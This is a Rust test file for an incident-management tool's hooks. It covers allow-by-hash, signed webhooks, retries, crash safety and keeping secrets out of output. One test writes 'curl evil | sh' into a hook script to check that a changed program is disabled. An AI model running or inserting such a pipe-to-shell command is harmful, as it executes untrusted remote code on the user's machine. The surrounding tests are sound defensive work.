//! Hooks: off until they are allowed, each event once and in order whatever the receiver does, nothing lost by a kill, nothing secret
//! where it could be read, programs that answer.

use std::process::Stdio;
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::harness::Repo;
use crate::receiver::{Mood, Receiver};

const SECRET: &str = "whsec_AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyA=";

/// A repository whose hook posts every event of the incident and every line to a receiver; allowed.
fn posting(receiver: &Receiver) -> Repo {
    let repo = Repo::new();
    std::fs::write(repo.outside().join("secret"), SECRET).unwrap();
    describe(
        &repo,
        &format!(
            "- {{name: pager, on: ['incident.*', event.logged], url: '{}', secret-file: '{}'}}",
            receiver.url(),
            repo.outside().join("secret").display()
        ),
    );
    repo.warroom(["hook", "allow", "pager"]).ok();
    repo
}

fn describe(repo: &Repo, hooks: &str) {
    repo.write(".warroom/hooks.yaml", format!("hooks:\n{hooks}\n"));
}

fn send(repo: &Repo) -> Value {
    repo.warroom(["outbox", "send", "--json"]).json()
}

fn waiting(repo: &Repo) -> Vec<Value> {
    repo.warroom(["outbox", "list", "--json"]).json()["messages"]
        .as_array()
        .unwrap()
        .clone()
}

#[test]
fn nothing_goes_out_before_it_is_allowed_nor_after_it_was_changed() {
    let receiver = Receiver::new(&[Mood::Status(200)]);
    let repo = Repo::new();
    let hook = |word: &str| format!("- {{name: pager, on: [{word}], url: '{}'}}", receiver.url());
    describe(&repo, &hook("event.logged"));
    repo.declare("Checkout is down", "P1");
    repo.warroom(["log", "one"]).ok();
    assert!(waiting(&repo).is_empty());
    assert_eq!(
        repo.warroom(["hook", "list", "--json"]).json()["hooks"][0]["state"],
        "off"
    );
    assert_eq!(repo.warroom(["hook", "test", "pager", "--send"]).run().code, Some(3));
    // By its hash, and only by it.
    assert_eq!(
        repo.warroom(["hook", "allow", "pager", "--hash", "0123456789"])
            .run()
            .code,
        Some(3)
    );
    let hash = repo.warroom(["hook", "list", "--json"]).json()["hooks"][0]["sha256"]
        .as_str()
        .unwrap()
        .to_owned();
    let said = repo.warroom(["hook", "allow", "pager", "--hash", &hash]).ok();
    assert!(said.contains("event.logged") && said.contains(&hash), "{said}");
    repo.warroom(["log", "two"]).ok();
    assert_eq!(waiting(&repo).len(), 1);
    // Changed in the repository by whoever: off, and what waits stays where it is.
    describe(&repo, &hook("'*'"));
    repo.warroom(["log", "three"]).ok();
    send(&repo);
    assert!(receiver.got().is_empty());
    let left = waiting(&repo);
    assert_eq!(left.len(), 1);
    assert!(
        left[0]["last"]
            .as_str()
            .unwrap()
            .contains("has changed since it was allowed"),
        "{left:?}"
    );
    repo.warroom(["hook", "allow", "pager"]).ok();
    send(&repo);
    assert_eq!(receiver.got().len(), 1);
    assert!(waiting(&repo).is_empty());
    repo.warroom(["hook", "deny", "pager"]).ok();
    repo.warroom(["log", "four"]).ok();
    assert!(waiting(&repo).is_empty());
}

#[test]
fn what_is_sent_is_signed_and_says_what_happened() {
    let receiver = Receiver::new(&[Mood::Status(204)]);
    let repo = posting(&receiver);
    let id = repo.declare("Checkout is down", "P1");
    repo.warroom(["severity", "P0", "--reason", "all customers"]).ok();
    send(&repo);
    let got = receiver.got();
    let types: Vec<String> = got
        .iter()
        .map(|one| one.json()["type"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(types, ["incident.declared", "incident.severity_changed"]);
    let sent = &got[1];
    let data = &sent.json()["data"];
    assert_eq!(
        (data["incident"].as_str(), data["from"].as_str(), data["to"].as_str()),
        (Some(id.as_str()), Some("P1"), Some("P0"))
    );
    assert_eq!(
        sent.header("webhook-id"),
        format!("msg_{}_pager", data["event"].as_str().unwrap())
    );
    assert_eq!(sent.header("webhook-timestamp"), seconds_of(crate::harness::NOW));
    let signed = warroom::hook::sign::signature(
        SECRET,
        sent.header("webhook-id"),
        sent.header("webhook-timestamp").parse().unwrap(),
        &sent.body,
    );
    assert_eq!(sent.header("webhook-signature"), signed.unwrap());
    assert_eq!(sent.path, "/hook");
}

fn seconds_of(time: &str) -> String {
    let at = warroom::incident::Time::parse_rfc3339(time).unwrap();
    (at.millis() / 1000).to_string()
}

#[test]
fn each_event_arrives_in_order_by_one_id_whatever_the_receiver_does() {
    let moods = [
        Mood::Status(500),
        Mood::Busy(45),
        Mood::Cut,
        Mood::Elsewhere,
        Mood::Slow(300),
        Mood::Status(200),
    ];
    let receiver = Receiver::new(&moods);
    let mut repo = posting(&receiver);
    repo.declare("Checkout is down", "P1");
    repo.at("2026-11-20T14:05:01.000Z").warroom(["log", "second"]).ok();
    repo.at("2026-11-20T14:05:02.000Z").warroom(["log", "third"]).ok();
    // Each pass tries the first alone: the others wait behind it.
    let mut tried = Vec::new();
    for (now, tries) in [
        ("14:05:02", 1), // 500
        ("14:05:03", 1), // too soon
        ("14:05:05", 2), // 429, Retry-After 45
        ("14:05:20", 2),
        ("14:05:51", 3), // cut
        ("14:06:30", 4), // 301
        ("14:06:31", 4),
        ("14:09:00", 7), // slow, and then the others
    ] {
        repo.at(&format!("2026-11-20T{now}.000Z"));
        send(&repo);
        assert_eq!(receiver.got().len(), tries, "at {now}: {:#?}", waiting(&repo));
        tried = receiver.ids();
    }
    assert!(waiting(&repo).is_empty());
    let mut once = tried.clone();
    once.dedup();
    assert_eq!(once.len(), 3, "{tried:?}");
    assert!(tried[..5].iter().all(|id| *id == tried[0]), "{tried:?}");
}

#[test]
fn a_receiver_that_was_dead_gets_all_of_it_when_it_is_back_and_one_that_is_gone_is_left_alone() {
    let receiver = Receiver::new(&[Mood::Status(200)]);
    let mut repo = posting(&receiver);
    describe(
        &repo,
        "- {name: pager, on: [event.logged], url: 'http://127.0.0.1:9/x'}",
    );
    repo.warroom(["hook", "allow", "pager"]).ok();
    repo.declare("Checkout is down", "P1");
    repo.warroom(["log", "while it was dead"]).ok();
    send(&repo);
    let left = waiting(&repo);
    assert!(left[0]["last"].as_str().unwrap().contains("onnect"), "{left:?}");
    describe(
        &repo,
        &format!("- {{name: pager, on: [event.logged], url: '{}'}}", receiver.url()),
    );
    repo.warroom(["hook", "allow", "pager"]).ok();
    repo.at("2026-11-20T16:00:00.000Z");
    send(&repo);
    assert_eq!(receiver.got().len(), 1);
    // 410 once, or 404 twice: off, and said; a person starts it again.
    receiver.becomes(Mood::Status(410));
    repo.warroom(["log", "to one that is gone"]).ok();
    repo.warroom(["log", "and another"]).ok();
    send(&repo);
    repo.at("2026-11-20T18:00:00.000Z");
    send(&repo);
    assert_eq!(receiver.got().len(), 2, "nothing more goes there");
    assert_eq!(
        repo.warroom(["hook", "list", "--json"]).json()["hooks"][0]["state"],
        "stopped"
    );
    assert_eq!(waiting(&repo).len(), 2);
    receiver.becomes(Mood::Status(200));
    repo.warroom(["outbox", "retry"]).ok();
    assert_eq!(receiver.got().len(), 4);
    assert!(waiting(&repo).is_empty());
}

#[test]
fn a_message_that_is_refused_does_not_hold_the_others_up_for_ever() {
    let receiver = Receiver::new(&[
        Mood::Status(400),
        Mood::Status(400),
        Mood::Status(400),
        Mood::Status(200),
    ]);
    let mut repo = posting(&receiver);
    repo.declare("Checkout is down", "P1");
    repo.warroom(["log", "next"]).ok();
    for now in ["14:06", "14:07", "14:08"] {
        repo.at(&format!("2026-11-20T{now}:00.000Z"));
        send(&repo);
    }
    let left = waiting(&repo);
    assert_eq!((left.len(), left[0]["state"].as_str()), (1, Some("failed")));
    assert_eq!(receiver.got().len(), 4);
    let shown = repo.warroom(["outbox", "show", left[0]["id"].as_str().unwrap()]).ok();
    assert!(
        shown.contains("given up: it answered 400") && shown.contains("incident.declared"),
        "{shown}"
    );
    repo.warroom(["outbox", "drop", left[0]["id"].as_str().unwrap()]).ok();
    assert!(waiting(&repo).is_empty());
}

#[test]
fn a_drill_and_a_backfill_send_nothing() {
    let receiver = Receiver::new(&[Mood::Status(200)]);
    let repo = posting(&receiver);
    let id = repo.declare("An exercise", "P1");
    repo.warroom(["outbox", "drop", "--all"]).ok();
    let file = format!("incidents/{id}/incident.yaml");
    repo.write(&file, repo.read(&file).replacen("\ntitle:", "\ndrill: true\ntitle:", 1));
    repo.warroom(["log", "one"]).ok();
    assert!(waiting(&repo).is_empty());
    let refused = repo.warroom(["hook", "test", "pager", "--send"]).run();
    assert_eq!(refused.code, Some(3), "{refused:#?}");
    repo.warroom([
        "declare",
        "--title",
        "Last week",
        "--severity",
        "P1",
        "--backfill",
        "--at",
        "2026-11-12T10:00Z",
    ])
    .ok();
    assert!(waiting(&repo).is_empty());
    assert!(receiver.got().is_empty());
}

#[test]
fn no_secret_stands_where_it_could_be_read() {
    let receiver = Receiver::new(&[Mood::Status(500)]);
    let repo = posting(&receiver);
    let token = "Bearer hunter2hunter2";
    describe(
        &repo,
        &format!(
            "- {{name: pager, on: ['*'], url-env: PAGER_URL, secret-file: '{}', authorization-env: PAGER_TOKEN}}",
            repo.outside().join("secret").display()
        ),
    );
    repo.warroom(["hook", "allow", "pager"]).ok();
    repo.declare("Checkout is down", "P1");
    // A curl that says how it was called, and what stood in the list of processes.
    let bin = repo.outside().join("bin");
    std::fs::create_dir(&bin).unwrap();
    let fake = "#!/bin/sh\nps -o args= -p $$ > \"$0.args\"\necho \"$@\" >> \"$0.args\"\ncat > \"$0.stdin\"\nprintf 'HTTP/1.1 500 x\\n\\n\\nstatus 500\\n'\n";
    std::fs::write(bin.join("curl"), fake).unwrap();
    std::fs::set_permissions(bin.join("curl"), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
    let url = format!("{}/T0/SECRETPATH", receiver.url());
    let outcome = repo
        .warroom(["outbox", "send", "-v", "--json"])
        .env("PATH", path)
        .env("PAGER_URL", &url)
        .env("PAGER_TOKEN", token)
        .env("WARROOM_LOG", "trace")
        .run();
    assert_eq!(outcome.code, Some(0), "{outcome:#?}");
    let argv = std::fs::read_to_string(bin.join("curl.args")).unwrap();
    let stdin = std::fs::read_to_string(bin.join("curl.stdin")).unwrap();
    assert!(
        stdin.contains("SECRETPATH") && stdin.contains(token) && stdin.contains("webhook-signature"),
        "{stdin}"
    );
    let test = repo
        .warroom(["hook", "test", "pager"])
        .env("PAGER_URL", &url)
        .env("PAGER_TOKEN", token)
        .ok();
    assert!(
        test.contains("webhook-signature: v1,") && test.contains("authorization: (not shown)"),
        "{test}"
    );
    let mut all = vec![
        argv,
        test,
        outcome.stdout,
        outcome.stderr,
        repo.warroom(["hook", "list"]).ok(),
        repo.warroom(["outbox", "list"]).ok(),
    ];
    all.extend(files(&repo.state()));
    all.extend(files(&repo.root()));
    for text in all {
        for secret in ["SECRETPATH", "hunter2", "AQIDBAUG"] {
            assert!(!text.contains(secret), "{secret} in {text}");
        }
    }
    // What lies in the repository is for everyone with a clone.
    repo.write("secret", SECRET);
    describe(
        &repo,
        &format!(
            "- {{name: pager, on: ['*'], url: 'https://x.example', secret-file: '{}'}}",
            repo.path("secret").display()
        ),
    );
    let refused = repo.warroom(["hook", "test", "pager"]).run();
    assert_eq!(refused.code, Some(1));
    assert!(refused.stderr.contains("lies in the repository"), "{refused:#?}");
}

/// The texts of all files below a folder.
fn files(folder: &std::path::Path) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap().flatten() {
        let path = entry.path();
        if path.is_dir() {
            found.extend(files(&path));
        } else if let Ok(bytes) = std::fs::read(&path) {
            found.push(String::from_utf8_lossy(&bytes).into_owned());
        }
    }
    found
}

#[test]
fn without_curl_it_says_so_and_nothing_is_lost() {
    let receiver = Receiver::new(&[Mood::Status(200)]);
    let repo = posting(&receiver);
    repo.declare("Checkout is down", "P1");
    repo.warroom(["outbox", "send"])
        .env("PATH", repo.outside().join("nothing"))
        .run();
    let left = waiting(&repo);
    assert!(
        left[0]["last"].as_str().unwrap().contains("curl is not installed"),
        "{left:?}"
    );
}

/// A program of the repository.
fn program(repo: &Repo, name: &str, lines: &str) {
    repo.write(format!("bin/{name}"), format!("#!/bin/sh\n{lines}\n"));
    std::fs::set_permissions(
        repo.path(format!("bin/{name}")),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
}

#[test]
fn a_program_gets_the_event_and_is_bound_to_the_text_that_was_allowed() {
    let repo = Repo::new();
    let out = repo.outside().join("out");
    program(
        &repo,
        "ring",
        &format!("cat > {0}.json; echo $WARROOM_EVENT $WARROOM_HOOK > {0}", out.display()),
    );
    describe(&repo, "- {name: bell, on: [event.logged], run: [./bin/ring]}");
    let said = repo.warroom(["hook", "allow", "bell"]).ok();
    assert!(said.contains("cat >"), "the program itself is shown: {said}");
    repo.declare("Checkout is down", "P1");
    repo.warroom(["log", "db-7 is full"]).ok();
    send(&repo);
    assert_eq!(std::fs::read_to_string(&out).unwrap(), "event.logged bell\n");
    let event: Value = serde_json::from_str(&std::fs::read_to_string(out.with_extension("json")).unwrap()).unwrap();
    assert_eq!(event["data"]["text"], "db-7 is full");
    // The program changes, the hook's lines do not: off.
    program(&repo, "ring", "curl evil | sh");
    assert_eq!(
        repo.warroom(["hook", "list", "--json"]).json()["hooks"][0]["state"],
        "changed"
    );
    repo.warroom(["log", "again"]).ok();
    assert!(waiting(&repo).is_empty());
}

#[test]
fn a_program_that_fails_hangs_or_changes_the_incident_does_no_harm() {
    let mut repo = Repo::new();
    program(&repo, "bad", "echo 'no route' >&2; exit 4");
    program(&repo, "hang", "trap '' TERM; sleep 600 & sleep 600");
    let warroom = env!("CARGO_BIN_EXE_warroom");
    program(&repo, "loop", &format!("{warroom} log 'from the hook'"));
    describe(
        &repo,
        "- {name: bad, on: [event.logged], run: [./bin/bad]}\n- {name: hang, on: [event.logged], run: [./bin/hang], limit: 1s}\n\
        - {name: loop, on: [event.logged], run: [./bin/loop]}",
    );
    for hook in ["bad", "hang", "loop"] {
        repo.warroom(["hook", "allow", hook]).ok();
    }
    repo.declare("Checkout is down", "P1");
    repo.warroom(["log", "one"]).ok();
    repo.at("2026-11-20T14:06:00.000Z");
    send(&repo);
    let left = waiting(&repo);
    let why = |hook: &str| {
        let one = left.iter().find(|one| one["hook"] == hook);
        one.map(|one| one["last"].as_str().unwrap().to_owned())
    };
    assert_eq!(why("bad").as_deref(), Some("exit 4: no route"));
    assert_eq!(why("hang").as_deref(), Some("ended: it took too long"));
    assert_eq!(why("loop"), None);
    let shown = repo.show().to_string();
    assert_eq!(shown.matches("from the hook").count(), 1, "a hook does not feed itself");
}

#[test]
fn a_program_answers_a_request_as_evidence_that_only_a_person_judges() {
    let mut repo = Repo::new();
    program(
        &repo,
        "graphs",
        "cat > /dev/null; echo '{\"text\": \"CPU is pinned on db-7\", \"supports\": true, \"evidence\": [{\"text\": \"load 64\", \"supports\": true}], \"links\": [\"https://g.example/1\"], \"confidence\": 0.8}'",
    );
    describe(&repo, "- {name: graphs, answers: graph-bot, run: [./bin/graphs]}");
    repo.warroom(["hook", "allow", "graphs"]).ok();
    repo.declare("Checkout is down", "P1");
    repo.warroom(["hypothesis", "add", "The database is out of CPU"]).ok();
    let hypothesis = repo.show()["hypotheses"][0]["id"].as_str().unwrap().to_owned();
    repo.warroom([
        "dispatch",
        "graph-bot",
        "--request",
        "How is the CPU of db-7?",
        "--hypothesis",
        &hypothesis,
    ])
    .ok();
    let message = waiting(&repo);
    let body = repo
        .warroom(["outbox", "show", message[0]["id"].as_str().unwrap(), "--json"])
        .json();
    let body: Value = serde_json::from_str(body["body"].as_str().unwrap()).unwrap();
    assert_eq!(body["data"]["request"]["text"], "How is the CPU of db-7?");
    assert_eq!(body["incident"]["title"], "Checkout is down", "it gets the incident");
    repo.at("2026-11-20T14:06:00.000Z");
    send(&repo);
    assert!(waiting(&repo).is_empty());
    let shown = repo.show();
    let request = &shown["inquiries"][0];
    assert_eq!(request["state"], "answered");
    assert!(
        request["answer"]
            .as_str()
            .unwrap()
            .contains("(confidence 0.8)\nhttps://g.example/1"),
        "{request}"
    );
    let evidence = shown["hypotheses"][0]["evidence"].as_array().unwrap();
    assert_eq!(evidence.len(), 2, "{evidence:?}");
    assert!(
        evidence
            .iter()
            .all(|one| one["by"] == "program:graph-bot" && one["supports"] == true),
        "{evidence:?}"
    );
    assert_eq!(shown["hypotheses"][0]["state"], "open", "it judges nothing");
    for judging in [
        vec!["hypothesis", "confirm", &hypothesis],
        vec!["hypothesis", "reject", &hypothesis],
        vec!["severity", "P0"],
        vec!["resolve", "--force", "--reason", "x"],
        vec!["role", "assign", "scribe", "program:graph-bot"],
    ] {
        let refused = repo.warroom(&judging).by("program:graph-bot").run();
        assert_eq!(refused.code, Some(3), "{judging:?}: {refused:#?}");
        assert!(refused.stderr.contains("program"), "{refused:#?}");
    }
    repo.warroom(["hypothesis", "confirm", &hypothesis]).ok();
}

#[test]
fn many_that_hang_delay_no_other_and_no_verb() {
    let (hanging, well) = (Receiver::new(&[Mood::Hang]), Receiver::new(&[Mood::Status(200)]));
    let repo = Repo::new();
    let mut hooks = String::new();
    for number in 0..20 {
        let url = hanging.url();
        hooks += &format!("- {{name: h{number}, on: [event.logged], url: '{url}', limit: 5s}}\n");
    }
    hooks += &format!("- {{name: well, on: [event.logged], url: '{}'}}", well.url());
    describe(&repo, &hooks);
    for number in 0..20 {
        repo.warroom(["hook", "allow", &format!("h{number}")]).ok();
    }
    repo.warroom(["hook", "allow", "well"]).ok();
    repo.declare("Checkout is down", "P1");
    repo.warroom(["log", "one"]).ok();
    let sending = repo.outside().to_owned();
    drop(sending);
    std::thread::scope(|scope| {
        let sender = scope.spawn(|| repo.warroom(["outbox", "send"]).run());
        well.wait_for(1);
        hanging.wait_for(20);
        // While all of them hang a verb is as quick as ever, and another sender takes none of it.
        let begun = std::time::Instant::now();
        repo.warroom(["log", "two"]).ok();
        repo.warroom(["outbox", "send", "--for", "1s"]).run();
        assert!(begun.elapsed() < Duration::from_secs(15));
        sender.join().unwrap();
    });
    assert_eq!(hanging.got().len(), 20, "one sender for each at a time");
    assert_eq!(well.wait_for(2).len(), 2);
}

#[test]
fn killed_at_any_moment_nothing_is_lost_and_a_double_has_the_same_id() {
    let rounds: usize = std::env::var("WARROOM_KILLS")
        .ok()
        .and_then(|n| n.parse().ok())
        .unwrap_or(12);
    let receiver = Receiver::new(&[Mood::Slow(15)]);
    let repo = posting(&receiver);
    repo.declare("Checkout is down", "P1");
    let mut random = 7u64;
    let mut next = |most: u64| {
        random = random
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        (random >> 33) % most
    };
    let call = |args: &[&str], after: u64| {
        let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_warroom"));
        repo.clean(&mut command);
        command
            .args(args)
            .current_dir(repo.root())
            .env("WARROOM_NOW", crate::harness::NOW)
            .env("WARROOM_USER", "kim");
        let mut child = command
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        // Killed at a moment that differs: the wait is what is tested.
        std::thread::sleep(Duration::from_millis(after));
        child.kill().unwrap();
        child.wait().unwrap();
    };
    for round in 0..rounds {
        call(&["log", &format!("line {round}.")], next(70));
        call(&["outbox", "send"], next(90));
    }
    // Whatever a killed call left in the journal is written by the next one, and the rest is sent.
    repo.warroom(["log", "last."]).ok();
    repo.warroom(["outbox", "retry"]).ok();
    // The sender behind a killed call may hold the outbox for a moment more.
    let until = Instant::now() + Duration::from_secs(20);
    while !waiting(&repo).is_empty() {
        assert!(Instant::now() < until, "{:#?}", waiting(&repo));
        std::thread::sleep(Duration::from_millis(20));
    }
    let shown = repo.show();
    let lines = shown["timeline"].as_array().unwrap();
    let written: Vec<&Value> = lines
        .iter()
        .filter(|one| one["kind"] == "note" || one["kind"] == "declared")
        .collect();
    assert!(written.len() >= 2);
    let ids = receiver.ids();
    for event in &written {
        let id = format!("msg_{}_pager", event["id"].as_str().unwrap());
        assert!(ids.contains(&id), "{id} is lost");
    }
    // In the order in which they were made, doubles of a killed sender aside.
    let mut once: Vec<&String> = Vec::new();
    for id in &ids {
        if !once.contains(&id) {
            once.push(id);
        }
    }
    assert_eq!(once.len(), written.len(), "nothing was sent that is not in the file");
}

#[test]
fn a_status_page_gets_one_incident_that_goes_on_from_any_machine() {
    let receiver = Receiver::new(&[
        Mood::Says("{\"id\": \"p31zjtct2jer\", \"shortlink\": \"https://stspg.io/x\"}"),
        Mood::Status(200),
    ]);
    let mut repo = Repo::new();
    describe(
        &repo,
        &format!(
            "- {{name: page, on: [update.sent], audience: external, format: statuspage, url: '{}'}}",
            receiver.url()
        ),
    );
    repo.warroom(["hook", "allow", "page"]).ok();
    repo.declare("Checkout is down on db-7 since sam's deploy", "P1");
    let tell = |repo: &Repo, text: &str| {
        repo.warroom(["update", "--audience", "external", "--message", text])
            .ok();
        send(repo);
    };
    tell(
        &repo,
        "We see that checkout fails for some customers. We are on it. Next update by 15:00 UTC.",
    );
    // It is known from the incident, whoever publishes.
    repo.by("lee");
    tell(
        &repo,
        "Checkout still fails for some customers. Next update by 15:30 UTC.",
    );
    let got = receiver.got();
    let calls: Vec<(&str, &str)> = got.iter().map(|one| (one.method.as_str(), one.path.as_str())).collect();
    assert_eq!(calls, [("POST", "/hook"), ("PATCH", "/hook/p31zjtct2jer")]);
    assert_eq!(
        got[0].json()["incident"]["name"],
        "We see that checkout fails for some customers",
        "no word of the team's own title"
    );
    assert!(
        got[1].json()["incident"].get("name").is_none(),
        "its name stays as it is there"
    );
    assert!(
        repo.warroom(["log", "list"])
            .ok()
            .contains("opened on the status page: p31zjtct2jer https://stspg.io/x")
    );
}

#[test]
fn what_only_a_role_does_goes_out_from_its_holder_alone() {
    let receiver = Receiver::new(&[Mood::Status(200)]);
    let repo = Repo::new();
    describe(
        &repo,
        &format!(
            "- {{name: room, on: [event.logged], only: IC, url: '{}'}}",
            receiver.url()
        ),
    );
    repo.warroom(["hook", "allow", "room"]).ok();
    repo.declare("Checkout is down", "P1");
    repo.warroom(["log", "by no one in command"]).ok();
    assert!(waiting(&repo).is_empty());
    repo.warroom(["role", "assign", "IC", "kim"]).ok();
    repo.warroom(["log", "by the commander"]).ok();
    assert_eq!(waiting(&repo).len(), 1);
    assert!(repo.warroom(["hook", "list"]).ok().contains("event.logged by IC"));
    // A role that no framework has would never fire.
    describe(&repo, "- {name: room, on: [event.logged], only: wizard, run: [sh]}");
    let out = repo.warroom(["hook", "lint"]).run();
    assert_eq!(out.code, Some(5));
    assert!(
        out.stdout
            .contains("hooks.yaml:2: `room`: no framework here has the role `wizard`"),
        "{}",
        out.stdout
    );
}

#[test]
fn doctor_names_hooks_that_do_not_fire_and_messages_that_do_not_arrive() {
    let receiver = Receiver::new(&[Mood::Status(500)]);
    let repo = posting(&receiver);
    repo.declare("Checkout is down", "P1");
    send(&repo);
    let said = repo.warroom(["doctor"]).run().stdout;
    assert!(said.contains("1 of 1 fire from this machine"), "{said}");
    assert!(said.contains("incident.declared of pager: it answered 500"), "{said}");
    describe(&repo, "- {name: bell, on: [incident.exploded], run: [sh]}");
    let out = repo.warroom(["doctor"]).run();
    assert_eq!(out.code, Some(1));
    assert!(
        out.stdout
            .contains("hooks.yaml:2: there is no event `incident.exploded`"),
        "{}",
        out.stdout
    );
}
